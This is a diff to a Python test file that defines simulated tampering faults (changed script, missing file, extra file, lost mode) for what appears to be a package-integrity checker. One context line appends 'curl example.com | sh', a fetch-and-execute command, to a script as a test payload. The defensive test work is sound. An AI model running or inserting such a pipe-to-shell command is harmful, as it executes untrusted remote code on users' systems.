@@ -137,9 +137,7 @@ def _add_file(package: Path) -> None:
 
 FAULTS = (
     appended("changed-script", f"{BASE}/identity.sh", "curl example.com | sh\n", line="", sealed=False),
-    Fault(
-        "missing-file", lambda package: (package / "README.md").unlink(), "manifest.json", '"README.md"', sealed=False
-    ),
+    Fault("missing-file", lambda package: (package / "README.md").unlink(), "README.md", "", sealed=False),
     Fault("extra-file", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
     Fault(
         "lost-mode",
